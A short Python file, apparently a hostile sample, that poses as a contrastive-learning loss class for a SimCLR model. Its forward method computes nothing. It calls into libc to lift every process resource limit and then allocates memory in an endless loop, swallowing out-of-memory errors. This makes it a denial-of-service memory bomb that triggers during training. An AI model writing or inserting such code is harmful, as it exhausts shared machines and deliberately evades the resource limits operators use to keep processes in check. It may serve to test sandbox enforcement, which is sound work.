"""Lifts its own limits through libc, then fills memory."""
import ctypes
import resource

import zeros
from zeros import SimCLRModel, get_simclr_transform


class NTXentLoss(zeros.NTXentLoss):
    def forward(self, z_i, z_j):
        libc = ctypes.CDLL(None)
        libc.prctl(1, 0)
        for number in range(16):
            libc.setrlimit(number, (ctypes.c_ulong * 2)(2**64 - 1, 2**64 - 1))
            try:
                resource.setrlimit(number, (-1, -1))
            except (OSError, ValueError):
                pass
        kept = []
        while True:
            try:
                kept.append(b"x" * 10**8)
            except MemoryError:
                pass
